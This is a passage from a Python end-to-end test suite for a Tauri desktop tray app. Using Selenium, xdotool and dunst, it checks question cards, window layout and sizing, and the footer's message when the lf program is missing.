        expect("Crates: Which crates go first? (pick any)" in n.body, f"body {n.body!r}")
        # Answer… opens the window at the card.
        ctx.invoke_action(n, "answer")
        card = f"{row} .request.questions"
        wait_for(lambda: any(e.is_displayed() for e in ctx.driver.find_elements(By.CSS_SELECTOR, card)),
                 "the question card on screen after Answer…")

        def sendable():
            return node_property(ctx, f'{card} button[data-request-action="send"]', "disabled") is False

        def tick(css):
            click_current(ctx.driver, f"{card} {css}")

        expect(not sendable(), "Send is enabled before any answer")
        tick('input[data-input="q0-o1"]')
        expect(not sendable(), "Send is enabled with the second question open")
        tick('input[data-input="q1-o0"]')
        tick('input[data-input="q1-o2"]')

        def typed():
            box = ctx.driver.find_element(By.CSS_SELECTOR, f'{card} textarea[data-input="own-1"]')
            box.send_keys("docs too")
            return True
        wait_for(typed, "to type the person's own words")
        wait_for(sendable, "Send enabled once every question has an answer")
        window_screenshot(ctx, "window-question-card.png")
        shown = wait_for(lambda: glance_window(ctx), "the window on the X server")
        glance_shot(ctx, "question-card.png", shown[0])
        # Where the card is in that picture, for scripts/pictures.sh to cut it out (the row
        # around it names the run's temporary directories).
        box = ctx.driver.execute_script(
            "const r = document.querySelector(arguments[0]).getBoundingClientRect();"
            " return [r.left, r.top, r.width, r.height];", card)
        (ctx.out / "question-card.json").write_text(json.dumps(box))
        # Two clicks as one: only the first answers.
        clicked = time.time()
        wait_for(lambda: ctx.driver.execute_script(
            "const b = document.querySelector(arguments[0]); if (!b) return false;"
            " b.click(); b.click(); return true;", f'{card} button[data-request-action="send"]'),
            "to click Send twice")
        report = agent.report()
        figures["send_to_answer"] = report["decided_at"] - clicked
        want = dict(TWO_QUESTIONS, answers={"Which registry?": "internal",
                                            "Which crates go first?": "core, tray, docs too"})
        expect(report["decided_by"] == "hook" and report["updated_input"] == want,
               f"the agent got {report}")
        wait_for(lambda: not ctx.driver.find_elements(By.CSS_SELECTOR, card), "the card to go once answered")
        never(lambda: any(line and line.startswith("{") for line in list(agent.lines.queue)),
              "a second answer reached the agent")

        # The terminal answers first: the card goes within a second of the hook's end.
        agent.say("ask AskUserQuestion " + json.dumps(TWO_QUESTIONS))
        wait_for(lambda: ctx.driver.find_elements(By.CSS_SELECTOR, f"{row} .request"),
                 "the next card")
        answered = time.monotonic()
        agent.say("terminal allow")
        expect(agent.report()["decided_by"] == "terminal", "the terminal did not decide")
        wait_for(lambda: not ctx.driver.find_elements(By.CSS_SELECTOR, f"{row} .request"),
                 "the card to go when the terminal answered", 2.0)
        figures["terminal_to_card_gone"] = time.monotonic() - answered
    finally:
        agent.end()
        end_webdriver(ctx)
        subprocess.run(["dunstctl", "close-all"], check=True)
        put_back(tray_settings, before)
    print(f"figures: {json.dumps({k: round(v, 3) for k, v in figures.items()})}", flush=True)


# The window at a glance (issue 35): a typical list of realistic length, as a new user first
# sees it, with nothing a person reads first cut, and nothing past the window's edge.
GLANCE_VERY_LONG = (
    "Decide whether the nightly release job should keep publishing the unsigned preview builds "
    "to the public channel while notarization is pending, or hold every platform back until "
    "macOS clears, given that testers on Linux asked for the preview in "
    "docs/releases/2026-04/preview-channel-and-notarization-decision.md")
GLANCE_WIDE = "リリース対象はどれを先に出すべきですか？🚀 Linux の .deb は署名済み、macOS は公証待ち 🍎"

# Every visible element of the page, read in one go (the page redraws on every change): what
# reaches past the window's edge, and what is cut (wider than its box, or taller where it
# hides what overflows). A cut is meant only where the element says so itself: an ellipsis
# or a line clamp, with the whole text in its tooltip.
GLANCE_AUDIT = """
const W = document.documentElement.clientWidth, H = document.documentElement.clientHeight;
const cut = [], meant = [], outside = [];
const name = (el) => el.tagName.toLowerCase() + (el.id ? '#' + el.id : '')
  + (typeof el.className === 'string' && el.className.trim() ? '.' + el.className.trim().split(/\\s+/).join('.') : '');
for (const el of document.body.querySelectorAll('*')) {
  if (!el.getClientRects().length) continue;
  const cs = getComputedStyle(el);
  if (cs.visibility !== 'visible') continue;
  const r = el.getBoundingClientRect();
  const what = `${name(el)} "${(el.textContent || '').trim().slice(0, 60)}"`;
  if (r.width > 0 && (r.left < -0.5 || r.right > W + 0.5)) outside.push(`${what} spans x ${r.left}..${r.right} of ${W}`);
  // A form field scrolls its own text; an svg has no text box.
  if (/^(input|textarea|select|option|svg|path|circle)$/.test(el.tagName.toLowerCase())) continue;
  const wide = el.clientWidth > 0 && el.scrollWidth > el.clientWidth + 1;
  const hides = cs.overflowY === 'hidden' || cs.overflowY === 'clip';
  const tall = hides && el.scrollHeight > el.clientHeight + 1;
  if (!wide && !tall) continue;
  const said = `${what}: ${wide ? `${el.scrollWidth} px of text in ${el.clientWidth}` : `${el.scrollHeight} px of text in ${el.clientHeight}`}`;
  const onPurpose = el.title && (cs.textOverflow === 'ellipsis' || (cs.webkitLineClamp || 'none') !== 'none');
  (onPurpose ? meant : cut).push(said);
}
const page = document.scrollingElement;
if (page.scrollWidth > W + 1) outside.push(`the page scrolls sideways: ${page.scrollWidth} px in ${W}`);
if (page.scrollHeight > H + 1) outside.push(`the page runs below the window: ${page.scrollHeight} px in ${H}`);
const footer = document.querySelector('footer').getBoundingClientRect();
if (footer.bottom > H + 0.5) outside.push(`the footer ends at ${footer.bottom} px, below the window (${H})`);
return { cut, meant, outside, width: W, height: H };
"""


def glance_audit(ctx, when):
    """Nothing cut and nothing outside the window; returns the cuts the design meant."""
    seen = ctx.driver.execute_script(GLANCE_AUDIT)
    expect(not seen["outside"], f"{when}: past the window's edge: {seen['outside']!r}")
    expect(not seen["cut"], f"{when}: cut short where no ellipsis was meant: {seen['cut']!r}")
    return seen["meant"]


def glance_title(ctx, sid):
    """A row's title as drawn: its text, tooltip, and whether its box hides some of it (below
    its two lines, or past its width)."""
    return ctx.driver.execute_script(
        "const t = document.querySelector(`[data-session-id=\"${arguments[0]}\"] .line .title`);"
        "return t && {text: t.textContent, tip: t.title,"
        " hidden: t.scrollHeight > t.clientHeight + 1 || t.scrollWidth > t.clientWidth + 1,"
        " lines: Math.round(t.clientHeight / parseFloat(getComputedStyle(t).lineHeight))};", sid)


def glance_shot(ctx, name, wid):
    """A screenshot of the window once WebKit has drawn what the page has now: two animation
    frames after the last change (the X server holds only what was painted), with the
    popups held back (dunst paused by the check) so none stands over it."""
    ctx.driver.execute_async_script(
        "const done = arguments[arguments.length - 1];"
        "requestAnimationFrame(() => requestAnimationFrame(() => done(true)));")
    ctx.screenshot(name, wid)


def glance_popups(paused):
    """Hold dunst's popups back (or let them come again): the window's screenshots are of
    the window alone."""
    subprocess.run(["dunstctl", "set-paused", "true" if paused else "false"], check=True)
    if paused:
        subprocess.run(["dunstctl", "close-all"], check=True)


def glance_window(ctx):
    """The app's window on the X server: (id, x, y, width, height)."""
    found = subprocess.run(["xdotool", "search", "--onlyvisible", "--name", f"^{APP_NAME}$"],
                           capture_output=True, text=True).stdout.split()
    if len(found) != 1:
        return None
    geometry = subprocess.run(["xdotool", "getwindowgeometry", "--shell", found[0]],
                              capture_output=True, text=True).stdout
    g = dict(line.split("=", 1) for line in geometry.split())
    return found[0], int(g["X"]), int(g["Y"]), int(g["WIDTH"]), int(g["HEIGHT"])


@window_check
def window_at_a_glance_shows_every_title_chip_and_notice_whole(ctx):
    """A typical first look (three groups, six sessions with realistic titles and
    repositories, one very long title and one of wide characters; no tray, quiet hours on) in
    the window at its default size on a 1280x800 screen: no text element is cut where no
    ellipsis was meant and nothing is past the window's edge (screenshots window-glance.png
    and window-glance-open.png); the very long title shows two lines and the rest when its row
    opens; the footer's no-tray line opens what to do; a size the person gives the window is
    the size it opens at next time."""
    from selenium import webdriver
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.options import ArgOptions

    if ctx.driver is not None:
        ctx.driver.quit()
        ctx.driver = None
    end_webdriver_apps(ctx)
    ctx.stop_app()
    stop_watcher(ctx)
    glance_popups(True)
    config = Path(os.environ["XDG_CONFIG_HOME"]) / "lf-tray"
    config.mkdir(parents=True, exist_ok=True)
    settings = config / "settings.json"
    kept = settings.read_bytes() if settings.exists() else None
    sized = config / "window.json"
    sized.unlink(missing_ok=True)
    now = time.localtime()
    # Quiet hours around now (a span across midnight is one too): the footer says so.
    settings.write_text(json.dumps({"quiet_from": f"{(now.tm_hour + 23) % 24:02d}:00",
                                    "quiet_to": f"{(now.tm_hour + 2) % 24:02d}:00"}))
    conf = json.loads((Path(__file__).resolve().parents[2] / "tauri.conf.json").read_text())
    default = next(w for w in conf["app"]["windows"] if w["label"] == "main")
    work = ctx.work / "glance"
    repo = work / "loopflow-desktop-release-engineering"
    wide_repo = work / "ウェブサイト-リニューアル-2026"
    for path in (repo, wide_repo):
        path.mkdir(parents=True, exist_ok=True)
    tag = uuid.uuid4().hex[:6]
    asks = {
        f"ask_glance_ship_{tag}": ("Which release target should we ship first: Linux .deb or signed macOS?",
                                   repo, None),
        f"ask_glance_wide_{tag}": (GLANCE_WIDE, wide_repo, None),
        f"ask_glance_long_{tag}": (GLANCE_VERY_LONG, repo, None),
        f"ask_glance_ready_{tag}": ("May I delete the legacy CSV importer nobody has called since March?",
                                    repo, "Deleted it and its fixtures; the suite still passes."),
    }
    for sid, (title, cwd, ready) in asks.items():
        ctx.write_ask(sid, title=title, prompt=f"{title}\nWhich one?", cwd=cwd, ready_summary=ready)
    task = "task_" + uuid.uuid4().hex
    flows = {
        f"{task}:ship:review-plan:0": ("Move settings to a JSON file, written atomically, with INI as fallback",
                                       "waiting", "Plan: read the old INI once, write settings.json "
                                       "atomically, keep INI as a fallback for one release."),
        f"{task}:ship:implement:0": ("Refactor the sync worker's retry loop so dropped connections resume",
                                     "active", None),
    }
    ctx.home.write_flows([{"id": fid, "title": title, "detail": fid.split(":")[2], "cwd": str(repo),
                           "state": state, "ready_summary": summary, "work": f"task:{task}"}
                          for fid, (title, state, summary) in flows.items()])
    mine = [*asks, *flows]
    titles = {**{sid: a[0] for sid, a in asks.items()}, **{fid: f[0] for fid, f in flows.items()}}
    opts = ArgOptions()
    opts.set_capability("browserName", "wry")
    opts.set_capability("tauri:options", {"application": ctx.app_bin})
    ctx.driver = webdriver.Remote(command_executor=ctx.webdriver_url, options=opts)
    try:
        wait_for(lambda: set(mine) <= set(window_rows(ctx)),
                 lambda: f"the six sessions in the window; shown {window_rows(ctx)!r}", START_TIMEOUT)
        groups = ctx.driver.execute_script(
            "return [...document.querySelectorAll('#groups .group')].map((g) => g.dataset.group);")
        expect(len(groups) >= 3, f"the window shows the groups {groups!r}; expected three")
        footer = wait_for(lambda: (lambda t: t if "No tray icon" in t and "Quiet hours" in t else None)(
            ctx.driver.execute_script("return [...document.getElementById('status').children]"
                                      ".map((line) => line.textContent).join(' | ')")),
            "the footer to say no tray shows the app, and the quiet hours")
        print(f"  footer: {footer}", flush=True)
        # Default size: as tauri.conf.json says, and on the screen.
        window = wait_for(lambda: glance_window(ctx), "the window on the X server")
        wid, x, y, width, height = window
        # Kept first, so a person sees what a failure below is about.
        glance_shot(ctx, "window-glance.png", wid)
        ctx.screenshot("window-glance-screen.png")
        expect((width, height) == (default["width"], default["height"]),
               f"the window opened at {width}x{height}; tauri.conf.json says "
               f"{default['width']}x{default['height']}")
        expect(x >= 0 and y >= 0 and x + width <= 1280 and y + height <= 800,
               f"the window at {x},{y} {width}x{height} is not within the 1280x800 screen")
        # The page has laid out the last list: the same audit twice in a row.
        meant = glance_audit(ctx, "the window as first seen")
        for sid in mine:
            drawn = glance_title(ctx, sid)
            expect(drawn and drawn["text"] == titles[sid],
                   f"the row of {titles[sid]!r} is titled {drawn and drawn['text']!r}")
            if sid.startswith("ask_glance_long_"):
                expect(drawn["hidden"] and drawn["lines"] == 2 and drawn["tip"] == titles[sid],
                       f"the very long title: {drawn!r}; expected two lines, the rest hidden, "
                       "the whole in its tooltip")
            else:
                expect(not drawn["hidden"], f"the title {titles[sid]!r} is cut short in its row")
        print(f"  cut on purpose: {meant!r}", flush=True)

        # The very long title opens whole in its row.
        long_sel = f'[data-session-id="ask_glance_long_{tag}"]'
        expand(ctx.driver, long_sel)
        drawn = wait_for(lambda: (lambda d: d if d and not d["hidden"] else None)(
            glance_title(ctx, f"ask_glance_long_{tag}")), "the open row to show the whole title")
        expect(drawn["lines"] > 2, f"the open row shows the long title in {drawn['lines']} lines")
        # What to do about the missing tray, on request.
        click_current(ctx.driver, "#status button.link")
        fix = wait_for(lambda: ctx.driver.execute_script(
            "const f = document.querySelector('#status .status-fix'); return f && f.textContent;"),
            "what to do about the missing tray in the footer")
        expect("tray" in fix.lower(), f"the footer's fix says {fix!r}")
        glance_audit(ctx, "with the long row open and the footer's fix shown")
        glance_shot(ctx, "window-glance-open.png", wid)

        # The person's size is kept beside the settings and used at the next opening.
        subprocess.run(["xdotool", "windowsize", wid, "700", "600"], check=True)
        wait_for(lambda: ctx.driver.execute_script("return [innerWidth, innerHeight]") == [700, 600],
                 lambda: f"the page to be 700x600; it is "
                 f"{ctx.driver.execute_script('return [innerWidth, innerHeight]')!r}")
        glance_audit(ctx, "resized to 700x600")
        wait_for(lambda: sized.exists() and json.loads(sized.read_text()) == {"width": 700, "height": 600},
                 lambda: f"window.json to keep 700x600; it holds "
                 f"{sized.read_text() if sized.exists() else 'nothing'!r}")
        ctx.driver.find_element(By.CSS_SELECTOR, "header h1").click()
        from selenium.common.exceptions import NoSuchWindowException
        from selenium.webdriver.common.keys import Keys
        try:
            press(ctx, Keys.ESCAPE)
        except NoSuchWindowException:
            pass  # the window went before WebKitWebDriver answered the key
        wait_for(lambda: glance_window(ctx) is None, "Esc to close the window")
        # A second start shows the first one's window, built again.
        subprocess.run([ctx.app_bin], env=os.environ.copy(), stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, timeout=START_TIMEOUT)
        again = wait_for(lambda: glance_window(ctx), "the window shown again", START_TIMEOUT)
        expect(again[3:] == (700, 600), f"the window opened again at {again[3]}x{again[4]}; "
               "expected the person's 700x600")
    finally:
        end_webdriver(ctx)
        sized.unlink(missing_ok=True)
        glance_popups(False)
        if kept is None:
            settings.unlink(missing_ok=True)
        else:
            settings.write_bytes(kept)
        start_watcher(ctx)


@window_check
def window_without_lf_says_so_in_one_line_with_the_setting_that_names_it(ctx):
    """No lf found (no LF_BIN, none on PATH): the footer's status line wraps inside the
    window with *Set the lf program*, which opens the settings at that field; nothing is cut
    there either (screenshot window-no-lf.png)."""
    # This wrapper takes lf away.
    webdriver_through(ctx, "lf-tray-without-lf",
                      f'unset LF_BIN\nPATH=/usr/local/bin:/usr/bin:/bin exec "{ctx.app_bin}" "$@"\n',
                      before=lambda: glance_popups(True))
    try:
        line = wait_for(lambda: ctx.driver.execute_script(
            "const b = document.querySelector('#status [data-fix=\"lf\"]');"
            "return b && b.parentElement.textContent;"), "the footer to offer the lf setting", START_TIMEOUT)
        print(f"  footer: {line}", flush=True)
        expect(line.startswith("No lf found"), f"the footer's line with the lf setting says {line!r}")
        window = wait_for(lambda: glance_window(ctx), "the window on the X server")
        glance_shot(ctx, "window-no-lf.png", window[0])
        glance_audit(ctx, "without lf")
        click_current(ctx.driver, '#status [data-fix="lf"]')
        wait_for(lambda: ctx.driver.execute_script(
            "return !document.getElementById('settings').hidden && document.activeElement.id === 'set-lf'"),
            lambda: f"the settings open at the lf program; the focus is on "
            f"{ctx.driver.execute_script('return document.activeElement.id')!r}")
        glance_audit(ctx, "the settings, without lf")
    finally:
        end_webdriver(ctx)
        glance_popups(False)


def end_webdriver(ctx):
    """The WebDriver session, and the app tauri-driver started for it, ended (its window
    may be gone already: closed, or the app quit)."""
    try:
        ctx.driver.quit()
    except Exception:
        pass  # its browser is gone
    ctx.driver = None
    end_webdriver_apps(ctx)


def webdriver_through(ctx, name, script, before=None):
    """A new WebDriver session whose app tauri-driver starts through the shell `script`
    (a wrapper named `name`): tauri-driver starts the app with its own environment, so a
    wrapper is how a check gives it another, or keeps its exit code. The session before it
    and its app end first; `before` runs once they have, before the new app starts."""
    from selenium import webdriver
    from selenium.webdriver.common.options import ArgOptions

    if ctx.driver is not None:
        ctx.driver.quit()
        ctx.driver = None
    end_webdriver_apps(ctx)
    ctx.stop_app()
    if before is not None:
        before()
    wrapper = ctx.tmp / "bin" / name
    wrapper.write_text("#!/bin/sh\n" + script)
    wrapper.chmod(0o755)
    opts = ArgOptions()
    opts.set_capability("browserName", "wry")
    opts.set_capability("tauri:options", {"application": str(wrapper)})
    ctx.driver = webdriver.Remote(command_executor=ctx.webdriver_url, options=opts)


def expand(driver, css):
    """Open a session's compact row with a click on it, as a person would, and wait until
    its details are on screen. Read the row afterwards with on_row: it may be redrawn."""
    from selenium.webdriver.common.by import By

    def opened(row):
        if row.get_attribute("aria-expanded") != "true":
            click_current(driver, f"{css} .line .title")
            return False
        details = row.find_elements(By.CSS_SELECTOR, ".details")
        return bool(details and details[0].is_displayed())
    wait_for(lambda: on_row(driver, css, opened, f"{css}"), f"{css} to open")


def on_row(driver, css, read, what=None):
    """read(row) on the row as the page has it now. The window redraws its cards when the
    list changes (a monitor frame can arrive at any moment); a redraw in the middle of a read
    leaves the nodes found stale, and the read starts again on the new ones."""
    from selenium.webdriver.common.by import By

    # wait_for tries again on any exception, the stale node's among them; the tuple keeps a
    # falsy reading (no fields, not yet muted) from counting as "not yet".
    return wait_for(lambda: (read(driver.find_element(By.CSS_SELECTOR, css)),), f"to read {what or css}")[0]


def click_current(driver, css):
    """Click the element as the page has it now. The window redraws its cards when the list
    changes (a monitor frame can arrive at any moment), and a person clicks what is on the
    screen, not a node found a moment earlier."""
    from selenium.common.exceptions import StaleElementReferenceException
    from selenium.webdriver.common.by import By

    def attempt():
        try:
            driver.find_element(By.CSS_SELECTOR, css).click()
            return True
        except StaleElementReferenceException:
            return False
    wait_for(attempt, f"to click {css}")


# --- running ----------------------------------------------------------------------------------


def main():
    ctx = Ctx()
    return run_checks(CHECKS, ctx, ctx.tmp / "result", finish)


def finish(ctx):
    if ctx.driver is not None:
        try:
            ctx.driver.quit()
        except Exception as e:
            print(f"note: WebDriver quit failed: {e}", flush=True)
        end_webdriver_apps(ctx)
    ctx.stop_app()
    if ctx.watcher is not None:
        ctx.watcher.terminate()
        ctx.watcher.wait(10)
    dump_notifications(ctx)


def end_webdriver_apps(ctx):
    """The app tauri-driver started outlives its WebDriver session when its window was
    hidden last (window_esc_hides_it): a tray app runs on without a window, and the
    session's end closes none. It is this run's to end, by SIGTERM as a logout does, so the
    run's audit then sees whether what the app started went with it."""
    binary = os.path.realpath(ctx.app_bin)
    own = ctx.app.pid if ctx.app is not None else None
    apps = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and int(entry.name) != own and \
                    os.readlink(entry / "exe") == binary:
                apps.append(int(entry.name))
        except OSError:
            pass
    for pid in apps:
        os.kill(pid, signal.SIGTERM)
    for pid in apps:
        wait_for(lambda: not Path(f"/proc/{pid}").exists() or
                 Path(f"/proc/{pid}/stat").read_text().split(") ")[1].startswith("Z"),
                 f"tauri-driver's app ({pid}) to exit on SIGTERM")


def dump_notifications(ctx):
    """Every Notify call, decoded, next to dbus-monitor's own text log for a person to read."""
    ctx.notes.refresh()
    with open(ctx.out / "notifications.jsonl", "w") as f:
        for n in ctx.notes.notifications:
            f.write(json.dumps({
                "id": n.id, "app_name": n.app_name, "summary": n.summary, "body": n.body,
                "actions": n.actions, "icon": n.icon, "hints": {k: str(v) for k, v in n.hints.items()},
                "closed_by_app": n.closed_by_app, "closed_reason": n.closed_reason,
                "invoked": n.invoked,
            }) + "\n")


if __name__ == "__main__":
    sys.exit(main())
